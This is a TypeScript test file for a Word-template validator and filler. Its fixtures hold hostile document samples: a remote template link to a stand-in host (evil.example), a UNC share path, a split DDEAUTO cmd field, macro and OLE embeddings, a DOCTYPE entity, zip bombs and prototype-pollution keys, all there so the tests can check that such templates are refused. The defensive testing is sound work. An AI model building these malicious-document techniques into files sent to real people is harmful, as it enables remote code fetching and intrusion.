/** Uploaded templates, and values that people typed. */
import { unzipSync, zipSync } from "fflate";
import { describe, expect, test } from "vitest";
import { docxOf, docxZip, wordsOfDocx } from "#demo/docx.ts";
import { unpack } from "./archive.ts";
import { checkTemplate, fillTemplate } from "./filling.ts";
import { type ProblemKind, problemCode, TemplateProblem } from "./problem.ts";

function problemOf(work: () => unknown): [ProblemKind, readonly string[]] {
  try {
    work();
  } catch (error) {
    if (error instanceof TemplateProblem) return [error.kind, error.names];
    throw error;
  }
  throw new Error("it was taken");
}

const template = docxOf({ paragraphs: ["Between {party_a} and {party_b}.", "{terms}", "{amount} on {agreed_on}"] });

describe("a template", () => {
  test("is read for its fields and written anew", () => {
    const checked = checkTemplate(docxOf({ paragraphs: ["{party_a} {party_b} {party_a} {date}"] }));
    expect(checked.fields).toEqual(["party_a", "party_b", "date"]);
    expect(wordsOfDocx(checked.bytes)).toEqual(["{party_a} {party_b} {party_a} {date}"]);
    expect(checkTemplate(docxOf({ paragraphs: ["Nothing to fill in."] })).fields).toEqual([]);
  });

  test.each<[string, Uint8Array | (() => Uint8Array), ProblemKind, string[]]>([
    ["is a text", Buffer.from("Dear Sir"), "type", []],
    ["is an empty file", new Uint8Array(0), "type", []],
    ["is an archive of something else", zipSync({ "a.txt": Buffer.from("a") }), "type", []],
    ["is cut off", template.subarray(0, template.length - 30), "type", []],
    ["is a spreadsheet", docxOf({ paragraphs: [], main: "application/vnd.ms-excel.sheet.main+xml" }), "type", []],
    [
      "says of itself that it has macros",
      docxOf({ paragraphs: [], main: "application/vnd.ms-word.document.macroEnabled.main+xml" }),
      "macros",
      ["[Content_Types].xml"],
    ],
    [
      "has macros",
      docxOf({ paragraphs: [], files: { "word/vbaProject.bin": "x" } }),
      "macros",
      ["word/vbaProject.bin"],
    ],
    [
      "has a file embedded",
      docxOf({ paragraphs: [], files: { "word/embeddings/oleObject1.bin": "x" } }),
      "macros",
      ["word/embeddings/oleObject1.bin"],
    ],
    [
      "leads elsewhere",
      docxOf({
        paragraphs: [],
        links: '<Relationship Id="r9" Type="x" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      }),
      "external",
      ["word/_rels/document.xml.rels"],
    ],
    [
      "leads elsewhere in disguise",
      docxOf({ paragraphs: [], links: '<Relationship Id="r9" Type="x" Target="t" TargetMode="&#69;xternal"/>' }),
      "external",
      ["word/_rels/document.xml.rels"],
    ],
    [
      "leads to another machine",
      docxOf({ paragraphs: [], links: '<Relationship Id="r9" Type="x" Target="\\\\evil\\share\\t.dotm"/>' }),
      "external",
      ["word/_rels/document.xml.rels"],
    ],
    ["has an unknown field", docxOf({ paragraphs: ["{party_a} {wherefore} {who}"] }), "fields", ["wherefore", "who"]],
    ["asks for an object's own", docxOf({ paragraphs: ["{constructor} {__proto__} {.}"] }), "fields", []],
    ["has a loop", docxOf({ paragraphs: ["{#terms}x{/terms}"] }), "tags", []],
    ["has raw XML", docxOf({ paragraphs: ["{@terms}"] }), "tags", []],
    ["lacks a closing brace", docxOf({ paragraphs: ["{party_a} and {party_b is"] }), "unclosed", ["party_b"]],
    ["lacks an opening brace", docxOf({ paragraphs: ["party_a} and {party_b}"] }), "unopened", ["party_a"]],
    ["has a brace and words", docxOf({ paragraphs: ["All { of it"] }), "unclosed", ["of it"]],
    ["has braces twice", docxOf({ paragraphs: ["{{party_a}}"] }), "broken", []],
    ["changes its braces", docxOf({ paragraphs: ["{=[[ ]]=}[[terms]]"] }), "fields", []],
  ])("that %s is refused, and it says why", (_, bytes, kind, names) => {
    const [found, what] = problemOf(() => checkTemplate(bytes as Uint8Array));
    expect(found).toBe(kind);
    if (names.length > 0) expect(what).toEqual(names);
  });

  test("with a document type is refused", () => {
    const zip = docxZip({ paragraphs: ["{party_a}"] });
    const xml = zip.file("word/document.xml")!.asText();
    zip.file("word/document.xml", xml.replace("<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document'));
    expect(problemOf(() => checkTemplate(zip.generate({ type: "nodebuffer" })))[0]).toBe("broken");
  });

  test("with a field that fetches something is refused, however it is cut", () => {
    const zip = docxZip({ paragraphs: ["{party_a}"] });
    const xml = zip.file("word/document.xml")!.asText();
    const cut = "<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO cmd</w:instrText></w:r></w:p>";
    zip.file("word/document.xml", xml.replace("<w:sectPr>", `${cut}<w:sectPr>`));
    expect(problemOf(() => checkTemplate(zip.generate({ type: "nodebuffer" })))).toEqual([
      "external",
      ["word/document.xml"],
    ]);
  });

  test("that is far more inside is refused before it is unpacked", () => {
    const entries = unzipSync(template);
    const bytes = zipSync({ ...entries, "word/media/a.xml": new Uint8Array(31 * 1024 * 1024) }, { level: 1 });
    expect(bytes.length).toBeLessThan(500_000);
    expect(problemOf(() => checkTemplate(bytes))[0]).toBe("size");
    const many = Object.fromEntries(Array.from({ length: 600 }, (_, n) => [`word/${n}.xml`, Buffer.from("<a/>")]));
    expect(problemOf(() => checkTemplate(zipSync({ ...entries, ...many })))[0]).toBe("size");
  });

  test("that lies about its size gets no more room than it has said", () => {
    const bytes = Buffer.from(zipSync({ "a.xml": new Uint8Array(1_000_000) }));
    // The entry's size in the directory.
    bytes.writeUInt32LE(10, bytes.lastIndexOf(Buffer.from("PK\u0001\u0002", "latin1")) + 24);
    expect(unpack(bytes)["a.xml"]).toHaveLength(10);
  });

  test("names in a refusal are letters, few and short", () => {
    expect(problemCode("fields", ["a<b>", "x".repeat(100), "c", "d", "e", "f"])).toBe(
      `template-fields:a?b?, ${"x".repeat(40)}, c, d, e`,
    );
    expect(problemCode("type", [])).toBe("template-type");
  });
});

describe("values", () => {
  const filled = (values: Parameters<typeof fillTemplate>[1]) => wordsOfDocx(fillTemplate(template, values));

  test.each([
    ["braces", "{party_b} {#a}{/a} }{", "{party_b} {#a}{/a} }{"],
    ["markup", "<w:p/> & \"quoted\" &amp; 'so'", "<w:p/> & \"quoted\" &amp; 'so'"],
    ["lines", "One\nTwo\tthree", "One\nTwo\tthree"],
    ["control characters", "a\u0000b\u0007c\u001bd\u0085e", "abcde"],
    ["halves of pairs", "a\ud800b", "a\ufffdb"],
    ["text from right to left", "שלום \u202eabc\u202c مرحبا", "שלום \u202eabc\u202c مرحبا"],
    ["5,000 letters", "å".repeat(5_000), "å".repeat(5_000)],
    ["a field of the library's own", "{constructor} $& $1", "{constructor} $& $1"],
  ])("with %s come out as they are", (_, typed, shown) => {
    const [parties, terms] = filled({ party_a: typed, party_b: "B", terms: typed });
    expect(parties).toBe(`Between ${shown} and B.`);
    expect(terms).toBe(shown);
  });

  test("that are missing leave a blank that is seen", () => {
    expect(filled({ party_a: "A", terms: "", party_b: "  " })).toEqual([
      "Between A and [party_b ______].",
      "[terms ______]",
      "[amount ______] on [agreed_on ______]",
    ]);
  });

  test("are not taken from anywhere else", () => {
    const values = JSON.parse('{"__proto__": {"terms": "no"}, "party_a": "A"}') as { party_a: string };
    expect(filled(values)[1]).toBe("[terms ______]");
  });
});
